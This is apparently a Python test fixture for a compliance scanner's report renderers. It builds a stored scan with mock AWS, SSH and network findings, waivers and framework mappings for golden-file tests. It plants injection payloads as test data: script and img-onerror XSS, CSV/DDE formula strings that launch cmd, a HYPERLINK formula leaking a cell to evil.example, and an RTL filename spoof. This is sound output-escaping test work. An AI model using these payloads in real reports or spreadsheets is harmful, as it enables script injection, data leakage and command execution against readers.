"""Build a realistic stored scan for renderer tests (shared by every reports test).

``build_scan(store)`` writes one complete scan through the public Store API with:
- every status (pass, fail, error, notapplicable, notchecked, waived);
- an active waiver (findings ``waived``) and an expired one (its finding stays ``fail`` and carries
  the expired waiver's id, so a report can say the waiver lapsed);
- an excluded control with its reason;
- hostile text in resource ids, messages, evidence, a target name and a control tag
  (``<script>``, ``"><img onerror>``, ``=HYPERLINK(...)``, CSV formula prefixes, ``]]>``,
  an ANSI escape and an RTL override);
- controls mapped to NIST SP 800-53 rev5, FedRAMP rev5 and CIS ids;
- a failing finding whose evidence says where its value was read (``evidence.locations``: file:line).

``EXPECTED`` lists (control, resource, status) for every finding, so tests can assert which control
had which result on which resource. ``normalise(text, view)`` replaces the volatile parts (scan id,
times, hashes) so renderer output can be compared with golden files; the factory pins the tool
operator and hostname.
"""

from __future__ import annotations

import hashlib
import json
import re
from pathlib import Path
from typing import Any, Iterable

import scanner
from scanner.model import Finding, ScanStatus, Severity, Status
from scanner.store import ScanView, Store, canonical

# -- hostile text --------------------------------------------------------------------------------
XSS_SCRIPT = "<script>alert('xss')</script>"
XSS_IMG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
CSV_PREFIXES = ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
CDATA_END = "]]>"
ANSI = "\x1b[31mred\x1b[0m"
RTL = "evil\u202efdp.exe"

#: Every hostile string the factory plants somewhere a report shows.
HOSTILE = (XSS_SCRIPT, XSS_IMG, FORMULA, *CSV_PREFIXES, CDATA_END, ANSI, RTL)

#: The tool version stored on factory scans (golden files replace it with a marker).
TOOL_VERSION = scanner.__version__

ACCOUNT = "aws:123456789012"
WEB = "ssh://admin@web01:22"
NET = "nmap://127.0.0.1"
DOWN = "ssh://admin@db01:22"

BUCKET_OK = "arn:aws:s3:::agency-logs"
BUCKET_BAD = "arn:aws:s3:::open-data-2024"
BUCKET_XSS = f"arn:aws:s3:::{XSS_SCRIPT}"
BUCKET_IMG = f"arn:aws:s3:::legacy-open-data-{XSS_IMG}"
BUCKET_FORMULA = f"arn:aws:s3:::{FORMULA}"
BUCKET_LAPSED = "arn:aws:s3:::legacy-open-data-archive"

_CONTROLS: list[dict[str, Any]] = [
    {"id": "aws-s3-encryption-at-rest", "version": "1.2.0", "severity": "high", "provider": "aws",
     "resource": "aws.s3.bucket", "title": "S3 buckets encrypt data at rest with SSE-KMS",
     "description": "Every bucket must use default encryption with a KMS key.",
     "mappings": {"nist-800-53-rev5": ["sc-28", "sc-28.1"], "fedramp-rev5": ["sc-28", "sc-28.1"],
                  "cis-aws-3.0": ["2.1.1"]},
     "tags": ["s3", "encryption", XSS_IMG],
     "remediation": {"text": "Enable default SSE-KMS encryption on the bucket.",
                     "cli": "aws s3api put-bucket-encryption --bucket NAME --server-side-encryption-configuration ..."}},
    {"id": "host-sshd-no-root-login", "version": "1.0.1", "severity": "medium", "provider": "host",
     "resource": "host.sshd", "title": "SSH daemon does not permit direct root login",
     "description": "The effective sshd configuration must set PermitRootLogin to an approved value.",
     "mappings": {"nist-800-53-rev5": ["ac-6.2", "ia-2.5", "cm-6"], "fedramp-rev5": ["ac-6.2", "cm-6"],
                  "cce": ["CCE-90800-4"]},
     "tags": ["ssh", "authentication"],
     "remediation": {"text": "Set `PermitRootLogin no` in /etc/ssh/sshd_config and reload sshd."}},
    {"id": "net-no-cleartext-admin-services", "version": "1.0.0", "severity": "critical",
     "provider": "network", "resource": "network.service",
     "title": "No cleartext administration services are exposed",
     "description": "telnet, rlogin, rsh and FTP must not listen.",
     "mappings": {"nist-800-53-rev5": ["cm-7", "sc-8"], "fedramp-rev5": ["cm-7", "sc-8"]},
     "tags": ["network"],
     "remediation": {"text": "Disable the service or replace it with its encrypted equivalent (ssh, sftp)."}},
    {"id": "aws-iam-root-mfa", "version": "1.0.0", "severity": "critical", "provider": "aws",
     "resource": "aws.iam.root", "title": "The root user has MFA enabled",
     "description": "The account root user must have an MFA device.",
     "mappings": {"nist-800-53-rev5": ["ia-2.1"], "fedramp-rev5": ["ia-2.1"], "cis-aws-3.0": ["1.5"]},
     "tags": ["iam"], "remediation": {"text": "Enable MFA on the root user."}},
    {"id": "host-auditd-enabled", "version": "1.0.0", "severity": "low", "provider": "host",
     "resource": "host.auditd", "title": "auditd is installed and running",
     "description": "The Linux audit daemon records security-relevant events.",
     "mappings": {"nist-800-53-rev5": ["au-2", "au-12"], "fedramp-rev5": ["au-2", "au-12"]},
     "tags": ["audit"], "remediation": {"text": "Install and enable auditd."}},
    {"id": "host-tmp-noexec", "version": "1.0.0", "severity": "info", "provider": "host",
     "resource": "host.mounts", "title": "/tmp is mounted noexec",
     "description": "A separate /tmp mount must carry the noexec option.",
     "mappings": {"nist-800-53-rev5": ["cm-6"]},
     "tags": ["filesystem"], "remediation": {"text": "Add noexec to the /tmp mount options."}},
    {"id": "aws-guardduty-enabled", "version": "1.0.0", "severity": "medium", "provider": "aws",
     "resource": "aws.guardduty.detector", "title": "GuardDuty is enabled in every region",
     "description": "A GuardDuty detector must be enabled.",
     "mappings": {"nist-800-53-rev5": ["si-4"], "fedramp-rev5": ["si-4"]},
     "tags": ["monitoring"], "remediation": {"text": "Enable GuardDuty."}},
]

_EXCLUSIONS = [
    {"control_id": "aws-cloudtrail-kms", "profile": "agency-fedramp-moderate",
     "reason": "Trails are encrypted by the organisation trail in the management account (SSP 10.2)."},
]


def _ev(observed: dict[str, Any], key: str, op: str, expected: Any, actual: Any, *,
        missing: bool = False, ok: bool = False, error: str | None = None) -> dict[str, Any]:
    ev: dict[str, Any] = {
        "observed": observed,
        "checks": [{"key": key, "op": op, "expected": expected, "actual": actual, "missing": missing, "ok": ok}],
        "expected": f"{key} {op} {expected!r}" if not isinstance(expected, list) else f"{key} {op} {expected}",
        "found": "(missing)" if missing else (actual if isinstance(actual, str) else json.dumps(actual)),
    }
    if error:
        ev["error"] = error
    return ev


def _findings() -> list[Finding]:
    s3, ssh, net = "aws-s3-encryption-at-rest", "host-sshd-no-root-login", "net-no-cleartext-admin-services"
    enc = "server_side_encryption.algorithm"
    F, H, M, C, L, I = Status, Severity.HIGH, Severity.MEDIUM, Severity.CRITICAL, Severity.LOW, Severity.INFO
    return [
        Finding(s3, ACCOUNT, BUCKET_OK, "aws.s3.bucket", F.PASS, H, "agency-logs: encrypted with aws:kms",
                _ev({enc: "aws:kms"}, enc, "eq", "aws:kms", "aws:kms", ok=True), region="us-east-1"),
        Finding(s3, ACCOUNT, BUCKET_BAD, "aws.s3.bucket", F.FAIL, H, "open-data-2024: encryption is AES256, not aws:kms",
                _ev({enc: "AES256"}, enc, "eq", "aws:kms", "AES256"), region="us-east-1"),
        Finding(s3, ACCOUNT, BUCKET_XSS, "aws.s3.bucket", F.FAIL, H, f"{XSS_SCRIPT}: no default encryption",
                _ev({enc: None, "tags": {"owner": XSS_SCRIPT}}, enc, "eq", "aws:kms", None, missing=True),
                region="us-west-2"),
        Finding(s3, ACCOUNT, BUCKET_FORMULA, "aws.s3.bucket", F.FAIL, H, f"{FORMULA}: encryption is AES256",
                _ev({enc: "AES256", "tags": {"cost-center": CSV_PREFIXES[0], "note": CSV_PREFIXES[2]}},
                    enc, "eq", "aws:kms", FORMULA), region="us-east-1"),
        Finding(s3, ACCOUNT, BUCKET_IMG, "aws.s3.bucket", F.WAIVED, H, f"{XSS_IMG}: encryption is AES256 (waived)",
                _ev({enc: "AES256", "tags": {"data-class": "public"}}, enc, "eq", "aws:kms", "AES256"),
                region="us-east-1", waiver_id="WVR-2026-014"),
        Finding(s3, ACCOUNT, BUCKET_LAPSED, "aws.s3.bucket", F.FAIL, H,
                "legacy-open-data-archive: encryption is AES256 (waiver WVR-2025-003 expired 2025-06-30)",
                _ev({enc: "AES256"}, enc, "eq", "aws:kms", "AES256"), region="us-east-1", waiver_id="WVR-2025-003"),
        Finding(ssh, WEB, "web01:sshd", "host.sshd", F.FAIL, M, "web01: PermitRootLogin=yes (allowed: ['no'])",
                {**_ev({"permitrootlogin": "yes"}, "permitrootlogin", "in", ["no"], "yes"),
                 "locations": [{"attribute": "permitrootlogin", "path": "/etc/ssh/sshd_config", "line": 33}]}),
        Finding(ssh, WEB, f"web01:sshd{CDATA_END}{ANSI}", "host.sshd", F.PASS, M,
                f"web01: PermitRootLogin=no {CSV_PREFIXES[1]} {RTL}",
                _ev({"permitrootlogin": "no", "banner": CDATA_END + ANSI}, "permitrootlogin", "in", ["no"], "no", ok=True)),
        Finding(ssh, DOWN, DOWN, "host.sshd", F.ERROR, M,
                "db01: host key verification failed (key not in known_hosts)",
                {"observed": {}, "checks": [], "expected": "", "found": "",
                 "error": "host key verification failed (key not in known_hosts)"}),
        Finding(net, NET, "127.0.0.1:23/tcp", "network.service", F.FAIL, C, "127.0.0.1:23/tcp: telnet is listening",
                _ev({"service": "telnet", "product": XSS_IMG}, "service", "not-in", ["telnet", "ftp", "rsh"], "telnet")),
        Finding(net, NET, "127.0.0.1:22/tcp", "network.service", F.PASS, C, "127.0.0.1:22/tcp: ssh",
                _ev({"service": "ssh"}, "service", "not-in", ["telnet", "ftp", "rsh"], "ssh", ok=True)),
        Finding("aws-iam-root-mfa", ACCOUNT, "arn:aws:iam::123456789012:root", "aws.iam.root", F.PASS, C,
                "root user has MFA", _ev({"mfa_active": True}, "mfa_active", "is-true", True, True, ok=True)),
        Finding("host-auditd-enabled", WEB, f"{WEB}/host.auditd", "host.auditd", F.ERROR, L,
                "web01: could not read auditd state: Permission denied",
                {"observed": {}, "checks": [], "expected": "", "found": "",
                 "error": "auditctl -s: Permission denied (sudo -n not allowed)"}),
        Finding("host-tmp-noexec", WEB, WEB, "host.mounts", F.NOTAPPLICABLE, I,
                "web01: /tmp is not a separate mount"),
        Finding("aws-guardduty-enabled", ACCOUNT, ACCOUNT, "aws.guardduty.detector", F.NOTCHECKED, M,
                "guardduty: not checked (service not selected for region us-gov-west-1)", region="us-gov-west-1"),
    ]


#: (control_id, resource_id, status) of every finding ``build_scan`` stores, in order.
EXPECTED: tuple[tuple[str, str, str], ...] = tuple(
    (f.control_id, f.resource_id, f.status.value) for f in _findings()
)


def _control_row(scan_id: str, c: dict[str, Any]) -> dict[str, Any]:
    doc = {
        "apiVersion": "govscan/v1", "kind": "Control",
        "metadata": {"id": c["id"], "version": c["version"], "title": c["title"], "description": c["description"],
                     "severity": c["severity"], "tags": c["tags"]},
        "mappings": c["mappings"], "target": {"provider": c["provider"], "resource": c["resource"]},
        "assert": {"key": "x", "op": "exists"}, "remediation": c["remediation"],
    }
    return {
        "scan_id": scan_id, "id": c["id"], "version": c["version"],
        "sha256": hashlib.sha256(canonical(doc).encode()).hexdigest(), "title": c["title"],
        "severity": c["severity"], "provider": c["provider"], "resource": c["resource"],
        "mappings": canonical(c["mappings"]), "tags": canonical(c["tags"]),
        "inputs": canonical({"api_token": "***"} if c["id"] == "aws-guardduty-enabled" else {}),
        "document": canonical(doc), "source": f"policies/controls/{c['provider']}/{c['id']}.yaml",
    }


def _waiver_rows(scan_id: str) -> list[dict[str, Any]]:
    active = {"apiVersion": "govscan/v1", "kind": "Waiver",
              "metadata": {"id": "WVR-2026-014", "title": "Legacy public-data buckets use SSE-S3 pending KMS migration"},
              "controls": ["aws-s3-encryption-at-rest"], "match": {"resources": ["arn:aws:s3:::legacy-open-data-*"],
                                                                   "tags": {"data-class": "public"}},
              "type": "risk-adjustment", "poam_id": "V-2026-0042",
              "justification": f"Buckets hold only published open data {XSS_SCRIPT}.",
              "approved_by": {"name": "System Authorizing Official", "role": "AO", "date": "2026-11-01"},
              "expires": "2099-02-28"}
    expired = {"apiVersion": "govscan/v1", "kind": "Waiver",
               "metadata": {"id": "WVR-2025-003", "title": "Archive bucket encryption deferred"},
               "controls": ["aws-s3-encryption-at-rest"], "match": {"resources": [BUCKET_LAPSED]},
               "type": "operational-requirement", "justification": "Migration window in Q2 2025.",
               "approved_by": {"name": "ISSO", "role": "ISSO", "date": "2024-07-01"}, "expires": "2025-06-30"}
    return [
        {"scan_id": scan_id, "id": "WVR-2026-014", "state": "active", "expires": "2099-02-28",
         "sha256": hashlib.sha256(canonical(active).encode()).hexdigest(), "document": canonical(active)},
        {"scan_id": scan_id, "id": "WVR-2025-003", "state": "expired", "expires": "2025-06-30",
         "sha256": hashlib.sha256(canonical(expired).encode()).hexdigest(), "document": canonical(expired)},
    ]


def _target_rows(scan_id: str) -> list[dict[str, Any]]:
    return [
        {"scan_id": scan_id, "id": ACCOUNT, "kind": "aws", "address": "123456789012", "name": "prod-account",
         "facts": canonical({"account_id": "123456789012", "regions": ["us-east-1", "us-west-2"]}),
         "error": None, "api_calls": 42},
        {"scan_id": scan_id, "id": WEB, "kind": "host", "address": "web01", "name": f"web01 {XSS_IMG}",
         "facts": canonical({"os": "debian", "version": "12"}), "error": None, "api_calls": 0},
        {"scan_id": scan_id, "id": DOWN, "kind": "host", "address": "db01", "name": "db01",
         "facts": canonical({}), "error": "host key verification failed (key not in known_hosts)", "api_calls": 0},
        {"scan_id": scan_id, "id": NET, "kind": "network", "address": "127.0.0.1", "name": "loopback",
         "facts": canonical({"hosts_up": 1}), "error": None, "api_calls": 0},
    ]


def bulk_findings(n: int) -> Iterable[Finding]:
    """``n`` extra synthetic findings over the factory's controls (for scale tests and benchmarks)."""
    statuses = (Status.PASS, Status.FAIL, Status.FAIL, Status.PASS, Status.ERROR, Status.NOTAPPLICABLE)
    for i in range(n):
        c = _CONTROLS[i % len(_CONTROLS)]
        st = statuses[i % len(statuses)]
        rid = f"bulk-{c['resource']}-{i:07d}"
        ev = _ev({"value": i % 17}, "value", "lt", 10, i % 17, ok=st is Status.PASS) if st is not Status.NOTAPPLICABLE else {}
        yield Finding(c["id"], ACCOUNT if c["provider"] == "aws" else WEB, rid, c["resource"], st,
                      Severity(c["severity"]), f"{rid}: value={i % 17}", ev,
                      region="us-east-1" if c["provider"] == "aws" else None)


def build_scan(store: Store, *, bulk: int = 0, operator: str = "ci-operator") -> str:
    """Store one complete scan (see module docstring) in ``store`` and return its id."""
    scan_id = store.begin_scan(profile="agency-fedramp-moderate", profile_sha256="a" * 64,
                               tool_version=TOOL_VERSION, inventory_sha256="b" * 64,
                               targets_spec=[ACCOUNT, WEB, DOWN, NET], options={"jobs": 4}, operator=operator)
    # hostname is not part of the scan hash; pin it so renderer output is the same on every machine.
    store.db["scans"].update(scan_id, {"hostname": "scan-host"})
    store.add_rows("targets", _target_rows(scan_id))
    store.add_rows("controls", [_control_row(scan_id, c) for c in _CONTROLS])
    store.add_rows("waivers", _waiver_rows(scan_id))
    store.add_rows("exclusions", [{"scan_id": scan_id, **e} for e in _EXCLUSIONS])
    store.add_findings(scan_id, _findings())
    if bulk:
        store.add_findings(scan_id, bulk_findings(bulk))
    store.finish_scan(scan_id, ScanStatus.COMPLETE, gate={"severity": "high", "passed": False, "failing": 4},
                      api_calls=42)
    return scan_id


def new_scan(tmp_path: Path, *, bulk: int = 0) -> ScanView:
    """A fresh Store at ``tmp_path/govscan.db`` holding one factory scan; returns its view."""
    store = Store(tmp_path / "govscan.db")
    return store.view(build_scan(store, bulk=bulk))


_ISO = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(?:\.\d+)?(?:Z|[+-]\d{2}:?\d{2})?")


def normalise(text: str, view: ScanView) -> str:
    """Replace what changes between runs (scan id, times, scan and finding hashes) with fixed markers."""
    scan = view.scan
    subs = {view.id: "SCAN-ID", view.id[:8]: "SCAN-ID-PREFIX", scan.get("hash") or "": "SCAN-HASH"}
    if scan.get("prev_hash"):
        subs[scan["prev_hash"]] = "PREV-HASH"
    for f in view.findings():
        subs[f["hash"]] = "FINDING-HASH"
    for old, new in sorted(subs.items(), key=lambda kv: -len(kv[0])):
        if old:
            text = text.replace(old, new)
    return _ISO.sub("TIME", text)


GOLDEN = Path(__file__).resolve().parent / "golden"


def assert_golden(name: str, text: str) -> None:
    """Compare ``text`` with ``golden/<name>``; GOVSCAN_UPDATE_GOLDEN=1 rewrites the file instead."""
    import os

    path = GOLDEN / name
    if os.environ.get("GOVSCAN_UPDATE_GOLDEN") == "1":
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8", newline="")
        return
    assert path.exists(), f"{path} missing: run with GOVSCAN_UPDATE_GOLDEN=1 and review the new file"
    with open(path, encoding="utf-8", newline="") as fh:
        expected = fh.read()
    assert text == expected, f"{name} differs from its golden file (GOVSCAN_UPDATE_GOLDEN=1 to accept, then review)"


def render(renderer: Any, view: ScanView) -> str:
    """Render ``view`` with ``renderer`` into a string."""
    import io

    buf = io.StringIO(newline="")
    renderer.render(view, buf)
    return buf.getvalue()
